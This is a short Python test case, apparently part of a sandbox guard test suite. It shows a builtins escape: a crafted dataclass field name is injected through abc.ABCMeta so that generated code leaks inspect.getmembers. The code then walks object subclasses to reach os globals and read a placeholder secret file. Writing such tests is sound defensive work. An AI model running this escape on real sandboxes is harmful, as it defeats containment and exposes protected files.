# category: builtins
# attack: abc.ABCMeta as a three-argument type(): field names injected into dataclasses' generated code, run with the real builtins
# profile: basic
# run-layer: guard
import abc, dataclasses
box = []
X = abc.ABCMeta("X", (), {"__module__": "inspect", "a": box,
    "__annotations__": {"a,self.a.append(getmembers)": int}})
Y = dataclasses.dataclass(init=False, repr=False)(X)
Y() == Y()
gm = box[0]
T = dict(gm(object))["__class__"]
for c in dict(gm(T))["__subclasses__"](object):
    if c.__name__ == "_wrap_close":
        g = dict(gm(dict(gm(c))["__init__"]))["__globals__"]
        fd = g["open"]("@SECRET_FILE@", 0)
        print(g["read"](fd, 100))
